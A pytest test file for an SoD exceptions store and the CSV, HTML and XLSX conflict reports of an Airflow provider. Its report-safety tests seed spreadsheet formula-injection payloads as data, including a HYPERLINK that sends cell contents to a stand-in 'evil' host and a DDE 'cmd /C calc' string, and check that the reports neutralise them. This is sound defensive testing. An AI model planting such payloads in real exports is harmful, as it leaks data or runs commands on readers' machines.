"""SoD exceptions (store and `nomasx1 sod exception`) and the SoD report (`nomasx1 report sod`)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
import sqlalchemy as sa
from sqlalchemy.engine import URL

from airflow_provider_nomasx1.applications import ApplicationNotFoundError, Registry
from airflow_provider_nomasx1.cli import main
from airflow_provider_nomasx1.collectors.preload import import_reference_bundle
from airflow_provider_nomasx1.collectors.sod.mitigations import ExceptionNotFoundError, ExceptionStore, normalise_pair
from airflow_provider_nomasx1.errors import ConfigurationError, Nomasx1Error
from airflow_provider_nomasx1.reports import sod as report_sod
from airflow_provider_nomasx1.reports import writers
from airflow_provider_nomasx1.schema import bootstrap

NOW = dt.datetime(2026, 11, 28, 6, 30, tzinfo=dt.UTC)
RUN = "scheduled__2026-11-28T05:00:00+00:00"


@pytest.fixture
def sod_db(pg_engine: sa.Engine) -> sa.Engine:
    """A nomasx1 schema with application 10 and the curated SoD baseline (P2P01 x P2P02, ...)."""
    bootstrap.init_schema(pg_engine, "nomasx1")
    Registry(pg_engine, "nomasx1").add(10, "JDE PROD <main> & co")
    import_reference_bundle(pg_engine, "nomasx1", target_apps_ids=(10,))
    return pg_engine


@pytest.fixture
def store(sod_db: sa.Engine) -> ExceptionStore:
    return ExceptionStore(sod_db, "nomasx1")


def _add(store: ExceptionStore, **overrides):
    values = dict(
        activity1_id="P2P02",
        activity2_id="P2P01",
        approver="CFO",
        justification="small team, monthly review of supplier changes",
        user_id="JSMITH",
        control_id="CTL-AP-07",
        valid_from="2026-01-01",
    )
    values.update(overrides)
    return store.add(10, **values)


# --------------------------------------------------------------------------------------------------
# exceptions store
# --------------------------------------------------------------------------------------------------


def test_add_normalises_the_pair_and_generates_ids(store: ExceptionStore) -> None:
    first = _add(store)
    assert (first["exception_id"], first["process_id"], first["activity1_id"], first["activity2_id"]) == (
        "EXC-10-1",
        "P2P",
        "P2P01",
        "P2P02",
    )
    assert first["valid_from"] == dt.date(2026, 1, 1) and first["valid_to"] is None
    assert first["created_by"] and first["created_at"] is not None
    assert _add(store, role_id="AP_CLERK", user_id=None, activity1_id="P2P01", activity2_id="P2P02")[
        "exception_id"
    ] == ("EXC-10-2")
    assert _add(store, exception_id="MIT-7")["exception_id"] == "MIT-7"
    assert _add(store)["exception_id"] == "EXC-10-3"  # a given id does not disturb the numbering
    with pytest.raises(ConfigurationError, match="MIT-7 ' already exists|'MIT-7' already exists"):
        _add(store, exception_id="MIT-7")
    assert normalise_pair(" B ", "A") == ("A", "B")


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        ({"role_id": "AP_CLERK"}, "exactly one principal: give --user USER_ID or --role ROLE_ID"),
        ({"user_id": None}, "exactly one principal"),
        ({"valid_to": "2025-12-31"}, "valid_to 2025-12-31 is before valid_from 2026-01-01"),
        ({"valid_from": "01/02/2026"}, "valid_from must be a date YYYY-MM-DD"),
        ({"approver": "  "}, "needs the person who approved it: --approver"),
        ({"justification": None}, "needs its business reason: --justification"),
        ({"activity2_id": "P2P99"}, "no SoD rule P2P02 x P2P99 .*nomasx1-import-reference"),
        ({"activity1_id": "P2P01"}, "two different activities"),
        ({"process_id": "O2C"}, "no SoD rule P2P01 x P2P02 in process O2C"),
    ],
)
def test_invalid_exceptions_are_refused(store: ExceptionStore, overrides: dict, message: str) -> None:
    with pytest.raises(ConfigurationError, match=message):
        _add(store, **overrides)
    assert store.list() == []


def test_unknown_application_and_principal(store: ExceptionStore, sod_db: sa.Engine) -> None:
    with pytest.raises(ApplicationNotFoundError, match="nomasx1 apps add --apps-id 42"):
        store.add(42, activity1_id="P2P01", activity2_id="P2P02", approver="a", justification="j", user_id="U")
    _add(store, user_id="NOBODY")  # nothing collected yet: cannot check
    _seed_security(sod_db)
    with pytest.raises(ConfigurationError, match="user 'GHOST' is not in security_users .* --allow-unknown"):
        _add(store, user_id="GHOST")
    with pytest.raises(ConfigurationError, match="role 'NOROLE' is not in security_roles"):
        _add(store, user_id=None, role_id="NOROLE")
    assert _add(store, user_id="GHOST", allow_unknown_principal=True)["user_id"] == "GHOST"


def test_list_filters_and_valid_on_date(store: ExceptionStore) -> None:
    _add(store, valid_from="2026-01-01", valid_to="2026-06-30")  # EXC-10-1
    _add(store, valid_from="2026-07-01")  # EXC-10-2, open-ended
    _add(store, user_id=None, role_id="AP_CLERK", valid_from="2026-03-01", valid_to="2026-03-31")  # EXC-10-3

    def ids(**kw) -> list[str]:
        return [r["exception_id"] for r in store.list(10, **kw)]

    assert ids() == ["EXC-10-1", "EXC-10-2", "EXC-10-3"]
    assert ids(valid_on="2026-06-30") == ["EXC-10-1"]  # valid_to is the last valid day
    assert ids(valid_on=dt.date(2026, 7, 1)) == ["EXC-10-2"]
    assert ids(valid_on="2026-03-15") == ["EXC-10-1", "EXC-10-3"]
    assert ids(valid_on="2025-12-31") == []
    assert ids(user_id="JSMITH") == ["EXC-10-1", "EXC-10-2"]
    assert ids(role_id="AP_CLERK") == ["EXC-10-3"]
    assert store.list(11) == []


def test_end_keeps_history_and_delete_removes(store: ExceptionStore) -> None:
    _add(store, valid_from="2026-01-01")
    ended = store.end(10, "EXC-10-1", valid_to="2026-02-28")
    assert ended["valid_to"] == dt.date(2026, 2, 28)
    assert [r["exception_id"] for r in store.list(10, valid_on="2026-03-01")] == []
    with pytest.raises(ConfigurationError, match="already ends on 2026-02-28"):
        store.end(10, "EXC-10-1", valid_to="2026-05-01")
    assert store.end(10, "EXC-10-1", valid_to="2026-01-31")["valid_to"] == dt.date(2026, 1, 31)  # earlier: allowed
    with pytest.raises(ConfigurationError, match="starts on 2026-01-01: end it on that day or later, .*--delete"):
        store.end(10, "EXC-10-1", valid_to="2025-12-01")
    assert store.end(10, "EXC-10-1", delete=True) is None
    with pytest.raises(ExceptionNotFoundError, match="nomasx1 sod exception list --apps-id 10"):
        store.show(10, "EXC-10-1")


def test_exception_cli(sod_db: sa.Engine, pg_url: URL, capsys: pytest.CaptureFixture[str]) -> None:
    url = ["--url", pg_url.render_as_string(hide_password=False)]
    add = ["sod", "exception", "add", "--apps-id", "10", *url, "--user", "JSMITH"]
    rule = ["--activity1", "P2P04", "--activity2", "P2P02", "--approver", "CFO"]
    assert main([*add, *rule, "--justification", "interim", "--valid-from", "2026-01-01"]) == 0
    assert "EXC-10-1" in capsys.readouterr().out
    assert main([*add, *rule]) == 2
    assert "needs its business reason: --justification TEXT" in capsys.readouterr().err
    assert main(["sod", "exception", "list", "--apps-id", "10", *url, "--valid-on", "2026-02-01"]) == 0
    out = capsys.readouterr().out
    assert "user JSMITH" in out and "P2P02 x P2P04" in out
    assert main(["sod", "exception", "show", "--apps-id", "10", "--id", "EXC-10-1", *url]) == 0
    assert "justification  interim" in capsys.readouterr().out
    assert (
        main(["sod", "exception", "end", "--apps-id", "10", "--id", "EXC-10-1", "--valid-to", "2026-03-31", *url]) == 0
    )
    assert "ends on 2026-03-31" in capsys.readouterr().out
    assert main(["sod", "exception", "show", "--apps-id", "10", *url]) == 2
    assert "needs --id" in capsys.readouterr().err
    assert main(["sod", "exception", "show", "--apps-id", "10", "--id", "NOPE", *url]) == 2
    assert "does not exist for application 10" in capsys.readouterr().err
    with sod_db.begin() as conn:  # a schema older than the SoD tables
        conn.exec_driver_sql("DROP TABLE nomasx1.sod_exceptions")
    assert main(["sod", "exception", "list", *url]) == 2
    assert "no SoD tables yet" in (err := capsys.readouterr().err) and "nomasx1-upgrade-schema-1" in err


# --------------------------------------------------------------------------------------------------
# report
# --------------------------------------------------------------------------------------------------


def _seed_security(engine: sa.Engine) -> None:
    with engine.begin() as conn:
        conn.execute(
            sa.text(
                "INSERT INTO nomasx1.security_users (apps_id, user_id, user_name, enabled, privileged) VALUES "
                "(10, 'JSMITH', 'John <b>Smith</b> & Sons', true, false), (10, 'ADMIN1', 'Admin', true, true), "
                "(10, 'MDOE', '=HYPERLINK(\"http://x\")', true, false), (10, 'OLD', 'Gone', false, false)"
            )
        )
        conn.execute(
            sa.text(
                "INSERT INTO nomasx1.security_roles (apps_id, role_id, description) VALUES "
                "(10, 'AP_CLERK', 'Accounts payable clerk'), (10, 'AP_SUPER', 'AP supervisor'), "
                "(10, 'VENDOR_MGR', 'Supplier master')"
            )
        )


DETAIL = (
    "INSERT INTO nomasx1.sod_conflict_details (apps_id, process_id, activity1_id, activity2_id, user_id, object1, "
    "object2, risk_id, risk_level, role1, role2, grant1_level, grant2_level, risk_score, privileged, mitigated, "
    "exception_id, refreshed_at, run_id) VALUES (10, :p, :a1, :a2, :u, :o1, :o2, :r, :lvl, :r1, :r2, :g1, :g2, "
    ":score, :priv, :mit, :exc, :at, :run)"
)


def _seed_conflicts(engine: sa.Engine) -> None:
    _seed_security(engine)
    base = {"p": "P2P", "r": "P2PR01", "lvl": "High", "score": 100, "priv": False, "at": NOW, "run": RUN}
    rows = [
        # JSMITH: supplier master (via role VENDOR_MGR) x voucher entry (via AP_CLERK and via *PUBLIC)
        {"a1": "P2P01", "a2": "P2P02", "u": "JSMITH", "o1": "P04012", "o2": "P0411", "r1": "VENDOR_MGR",
         "r2": "AP_CLERK", "g1": "ROLE", "g2": "ROLE", "mit": True, "exc": "EXC-10-1"},
        {"a1": "P2P01", "a2": "P2P02", "u": "JSMITH", "o1": "P04012", "o2": "P4314", "r1": "VENDOR_MGR",
         "r2": "*PUBLIC", "g1": "ROLE", "g2": "PUBLIC", "mit": False, "exc": None},
        # ADMIN1 (privileged): both sides by AP_SUPER alone (self-conflicting role) and by default-open
        {"a1": "P2P02", "a2": "P2P04", "u": "ADMIN1", "o1": "P0411", "o2": "P04571", "r1": "AP_SUPER",
         "r2": "AP_SUPER", "g1": "ROLE", "g2": "ROLE", "mit": False, "exc": None, "r": "P2PR03", "priv": True},
        {"a1": "P2P02", "a2": "P2P04", "u": "ADMIN1", "o1": "P0411", "o2": "R04570", "r1": "AP_SUPER",
         "r2": None, "g1": "ROLE", "g2": "DEFAULT", "mit": False, "exc": None, "r": "P2PR03", "priv": True},
        # MDOE: own user record x role, fully mitigated by a role exception
        {"a1": "P2P02", "a2": "P2P04", "u": "MDOE", "o1": "P0411", "o2": "P04571", "r1": "MDOE",
         "r2": "AP_SUPER", "g1": "USER", "g2": "ROLE", "mit": True, "exc": "EXC-10-2", "r": "P2PR03"},
    ]  # fmt: skip
    with engine.begin() as conn:
        conn.execute(sa.text(DETAIL), [{**base, **row} for row in rows])
        conn.execute(
            sa.text(
                "INSERT INTO nomasx1.sod_role_conflicts (apps_id, role_id, process_id, activity1_id, activity2_id, "
                "object1, object2, risk_id, risk_level, risk_score, run_id) VALUES "
                "(10, 'AP_SUPER', 'P2P', 'P2P02', 'P2P04', 'P0411', 'P04571', 'P2PR03', 'High', 100, :run)"
            ),
            {"run": RUN},
        )


def _parse_csv(path: Path) -> tuple[dict[str, str], list[dict[str, str]]]:
    scope, body = {}, []
    for line in path.read_text(encoding="utf-8").splitlines(keepends=True):
        if line.startswith("# "):
            key, _, value = line[2:].rstrip("\n").partition(": ")
            scope[key] = value
        else:
            body.append(line)
    return scope, list(csv.DictReader(io.StringIO("".join(body))))


def test_csv_report(sod_db: sa.Engine, tmp_path: Path) -> None:
    _seed_conflicts(sod_db)
    written = report_sod.write_report(sod_db, 10, "csv", tmp_path, now=NOW)
    assert written.path == tmp_path / "sod-report-10-2026-11-28.csv" and written.conflicts == 3
    scope, rows = _parse_csv(written.path)
    assert scope["application_id"] == "10" and scope["application_name"] == "JDE PROD <main> & co"
    assert scope["run_id"] == RUN and scope["run_time"] == NOW.isoformat(timespec="seconds")
    assert (scope["ruleset_rules"], scope["ruleset_processes"]) != ("0", "0")
    assert (scope["users_in_conflict"], scope["privileged_users_in_conflict"], scope["conflicts"]) == ("3", "1", "3")
    assert (scope["conflicts_mitigated"], scope["conflicts_partly_mitigated"], scope["users_fully_mitigated"]) == (
        "1",
        "1",
        "1",
    )
    assert scope["enabled_users"] == "3" and scope["self_conflicting_roles"] == "1"
    assert scope["result"] == "3 conflict(s) (user x rule)"
    assert list(rows[0]) == [key for key, _ in report_sod.CONFLICT_COLUMNS]
    by_user = {r["user_id"]: r for r in rows}
    smith = by_user["JSMITH"]
    assert (smith["process_id"], smith["activity1_id"], smith["activity2_id"], smith["risk_id"]) == (
        "P2P",
        "P2P01",
        "P2P02",
        "P2PR01",
    )
    assert smith["rule"] == "Maintain supplier master and bank details ↔ Enter vouchers"
    assert smith["side1"] == "P04012 via role VENDOR_MGR"
    assert smith["side2"] == "P0411 via role AP_CLERK; P4314 via *PUBLIC"
    assert (smith["paths"], smith["mitigated"], smith["exception_ids"], smith["risk_score"]) == (
        "2",
        "partly",
        "EXC-10-1",
        "100",
    )
    admin = by_user["ADMIN1"]
    assert (
        admin["privileged"] == "yes"
        and admin["side2"] == "P04571 via role AP_SUPER; R04570 via open default (no record)"
    )
    assert by_user["MDOE"]["side1"] == "P0411 via own user record" and by_user["MDOE"]["mitigated"] == "yes"
    assert by_user["MDOE"]["user_name"] == '\'=HYPERLINK("http://x")'  # neutralised: never a formula


def test_html_report_is_escaped_and_self_contained(sod_db: sa.Engine, tmp_path: Path) -> None:
    _seed_conflicts(sod_db)
    path = report_sod.write_report(sod_db, 10, "html", tmp_path / "r.html", now=NOW).path
    page = path.read_text(encoding="utf-8")
    assert "John &lt;b&gt;Smith&lt;/b&gt; &amp; Sons" in page and "<b>Smith" not in page
    assert "JDE PROD &lt;main&gt; &amp; co" in page
    assert "<th>SoD run id</th><td>scheduled__2026-11-28T05:00:00+00:00</td>" in page
    assert "<th>Ruleset: rules (activity pairs)</th>" in page and "Users in conflict" in page
    assert "Self-conflicting roles" in page and "<td>AP_SUPER</td>" in page and "Most-conflicted roles" in page
    assert "P0411 via role AP_CLERK; P4314 via *PUBLIC" in page
    assert "http://x" in page and "src=" not in page and "<script" not in page and "<link" not in page


def test_xlsx_report(sod_db: sa.Engine, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    _seed_conflicts(sod_db)
    path = report_sod.write_report(sod_db, 10, "xlsx", tmp_path, now=NOW).path
    assert path.name == "sod-report-10-2026-11-28.xlsx"
    book = load_workbook(path)
    assert book.sheetnames == ["Scope", "Conflicts", "Roles"]
    scope = {row[0]: row[1] for row in book["Scope"].iter_rows(min_row=2, values_only=True)}
    assert scope["Application id"] == 10 and scope["SoD run id"] == RUN and scope["Users in conflict"] == 3
    conflicts = list(book["Conflicts"].iter_rows(values_only=True))
    assert conflicts[0] == tuple(label for _, label in report_sod.CONFLICT_COLUMNS)
    assert [r[0] for r in conflicts[1:]] == ["JSMITH", "ADMIN1", "MDOE"]
    mdoe = conflicts[3]
    assert mdoe[1] == '=HYPERLINK("http://x")' and book["Conflicts"]["B4"].data_type == "s"  # text, not a formula
    assert mdoe[14] == 1 and conflicts[1][11] == 100
    roles = [r for r in book["Roles"].iter_rows(values_only=True) if any(v is not None for v in r)]
    assert roles[0][0].startswith("Self-conflicting roles") and roles[2][0] == "AP_SUPER"
    top = roles[roles.index(next(r for r in roles if str(r[0]).startswith("Most-conflicted"))) + 2 :]
    assert [(r[1], r[3], r[4], r[5]) for r in top] == [
        ("AP_SUPER", 2, 1, "yes"),  # ADMIN1 and MDOE, one rule
        ("*PUBLIC", 1, 1, "no"),  # *PUBLIC grants a side too: ranked like a role
        ("AP_CLERK", 1, 1, "no"),
        ("VENDOR_MGR", 1, 1, "no"),
    ]


def test_no_conflicts_still_writes_a_report(sod_db: sa.Engine, tmp_path: Path) -> None:
    with pytest.raises(Nomasx1Error, match="no SoD results yet: run the nomasx1-sod-1 job"):
        report_sod.write_report(sod_db, 10, "csv", tmp_path, now=NOW)
    assert list(tmp_path.iterdir()) == []
    with sod_db.begin() as conn:
        conn.execute(
            sa.text(
                "INSERT INTO nomasx1.collect_audit (run_id, step, apps_id, dag_id, finished_at, status) "
                "VALUES (:run, 'SOD_CONFLICT_DETAILS', 10, 'nomasx1-sod-1', :at, 'success')"
            ),
            {"run": RUN, "at": NOW},
        )
    for fmt in report_sod.FORMATS:
        written = report_sod.write_report(sod_db, 10, fmt, tmp_path, now=NOW)
        assert written.conflicts == 0 and written.path.stat().st_size > 0
    scope, rows = _parse_csv(tmp_path / "sod-report-10-2026-11-28.csv")
    assert rows == [] and scope["result"] == "no conflicts" and scope["run_id"] == RUN
    assert "Result: no conflicts" in (tmp_path / "sod-report-10-2026-11-28.html").read_text(encoding="utf-8")
    from openpyxl import load_workbook

    book = load_workbook(tmp_path / "sod-report-10-2026-11-28.xlsx")
    assert list(book["Conflicts"].iter_rows(values_only=True))[1][0] == "no conflicts"


def test_overwrite_is_refused_unless_forced(
    sod_db: sa.Engine, pg_url: URL, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    _seed_conflicts(sod_db)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("NOMASX1_URL", pg_url.render_as_string(hide_password=False))
    assert main(["report", "sod", "--apps-id", "10", "--format", "csv"]) == 0
    default = tmp_path / f"sod-report-10-{dt.date.today().isoformat()}.csv"
    assert f"{default}: SoD report (csv), 3 conflict(s)" in capsys.readouterr().out
    default.write_text("keep me")
    assert main(["report", "sod", "--apps-id", "10", "--format", "csv"]) == 2
    assert "already exists: give another --output, or add --force" in capsys.readouterr().err
    assert default.read_text() == "keep me"
    assert main(["report", "sod", "--apps-id", "10", "--format", "csv", "--force"]) == 0
    assert default.read_text().startswith("# report: ")
    assert sorted(p.name for p in tmp_path.iterdir()) == [default.name]  # no temporary file left
    assert main(["report", "sod", "--apps-id", "10", "--output", str(tmp_path / "missing" / "r.html")]) == 2
    assert "does not exist; create it first" in capsys.readouterr().err
    assert main(["report", "sod", "--apps-id", "42", "--output", str(tmp_path / "r.html")]) == 2
    assert "application 42 is not registered" in capsys.readouterr().err


# --------------------------------------------------------------------------------------------------
# report safety: formulas in CSV, file name vs format
# --------------------------------------------------------------------------------------------------

HOSTILE = {"U1": '=HYPERLINK("http://evil/?x="&A1,"click")', "U2": "+1", "U3": "-cmd|' /C calc'!A0", "U4": "@x"}


def _seed_hostile(engine: sa.Engine) -> None:
    """One conflict per user, mitigated by an exception whose id a spreadsheet would run."""
    base = {"p": "P2P", "a1": "P2P01", "a2": "P2P02", "o1": "P04012", "o2": "P0411", "r": "P2PR01", "lvl": "High"}
    base |= {"r1": "VENDOR_MGR", "r2": "AP_CLERK", "g1": "ROLE", "g2": "ROLE", "priv": False, "at": NOW, "run": RUN}
    rows = [
        {**base, "u": user, "exc": exc, "mit": True, "score": -5 if user == "U2" else 100}
        for user, exc in HOSTILE.items()
    ]
    with engine.begin() as conn:
        conn.execute(sa.text(DETAIL), rows)
        conn.execute(
            sa.text(
                "INSERT INTO nomasx1.security_users (apps_id, user_id, user_name, enabled, privileged) VALUES "
                "(10, 'U1', '=1+1', true, false), (10, 'U2', '\tTAB', true, false), (10, 'U3', '\rCR', true, false)"
            )
        )
    Registry(engine, "nomasx1").update(10, apps_name='PROD;=1+1, "@SUM(A1)",-2')


def test_csv_report_neutralises_formulas(sod_db: sa.Engine, tmp_path: Path) -> None:
    _seed_hostile(sod_db)
    path = report_sod.write_report(sod_db, 10, "csv", tmp_path / "r.csv", now=NOW).path
    scope, _ = _parse_csv(path)
    with path.open(encoding="utf-8", newline="") as handle:  # untranslated: a \r in a cell stays one
        rows = list(csv.DictReader(line for line in handle if not line.startswith("# ")))
    by_user = {r["user_id"]: r for r in rows}
    assert {u: by_user[u]["exception_ids"] for u in HOSTILE} == {u: "'" + exc for u, exc in HOSTILE.items()}
    assert [by_user[u]["user_name"] for u in ("U1", "U2", "U3")] == ["'=1+1", "'\tTAB", "'\rCR"]
    # numbers stay numbers (unquoted, no apostrophe): a negative score is still -5
    assert (by_user["U2"]["risk_score"], by_user["U1"]["risk_score"], by_user["U1"]["paths"]) == ("-5", "100", "1")
    body = [line for line in path.read_text(encoding="utf-8").splitlines() if not line.startswith("#")]
    u2 = next(line for line in body if line.startswith('"U2",'))
    assert '"High",-5,"P04012' in u2 and ',1,"yes",' in u2  # score and paths unquoted
    for row in rows:
        for key, value in row.items():
            if key not in ("risk_score", "paths"):
                assert not value.startswith(writers.FORMULA_START), (key, value)
    # a separator in a scope value cannot start a formula cell either
    assert scope["application_name"] == "PROD;'=1+1, \"'@SUM(A1)\",'-2"


@pytest.mark.parametrize(
    ("fmt", "name", "hint"),
    [
        ("html", "x.csv", "name the file x.html, or give --format csv"),
        ("csv", "x.xlsx", "name the file x.csv, or give --format xlsx"),
        ("xlsx", "x.html", "name the file x.xlsx, or give --format html"),
        ("csv", "report", "name the file report.csv; nothing was written"),
    ],
)
def test_extension_must_match_the_format(sod_db: sa.Engine, tmp_path: Path, fmt: str, name: str, hint: str) -> None:
    _seed_conflicts(sod_db)
    with pytest.raises(ConfigurationError, match=f"does not end with .* but the report format is {fmt}: {hint}"):
        report_sod.write_report(sod_db, 10, fmt, tmp_path / name, now=NOW, force=True)
    assert list(tmp_path.iterdir()) == []


def test_extension_mismatch_is_refused_by_the_cli(
    sod_db: sa.Engine, pg_url: URL, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _seed_conflicts(sod_db)
    url = ["--url", pg_url.render_as_string(hide_password=False)]
    target = tmp_path / "x.csv"
    assert main(["report", "sod", "--apps-id", "10", "--format", "html", "--output", str(target), *url]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "does not end with .html but the report format is html" in err
    assert list(tmp_path.iterdir()) == []
    target.write_text("keep me")  # --force replaces a file, never with another format
    assert main(["report", "sod", "--apps-id", "10", "--format", "html", "--output", str(target), "--force", *url]) == 2
    assert target.read_text() == "keep me" and "give --format csv" in capsys.readouterr().err
    for name in ("X.HTML", "x.htm"):  # the case of the extension does not matter; .htm is HTML too
        assert main(["report", "sod", "--apps-id", "10", "--output", str(tmp_path / name), *url]) == 0
        assert (tmp_path / name).read_text(encoding="utf-8").startswith("<!DOCTYPE html>")


def test_unwritable_folder_is_a_clear_error(sod_db: sa.Engine) -> None:
    _seed_conflicts(sod_db)
    with pytest.raises(ConfigurationError, match=r"cannot write /proc/r.html: the folder /proc refuses new files"):
        report_sod.write_report(sod_db, 10, "html", "/proc/r.html", now=NOW)
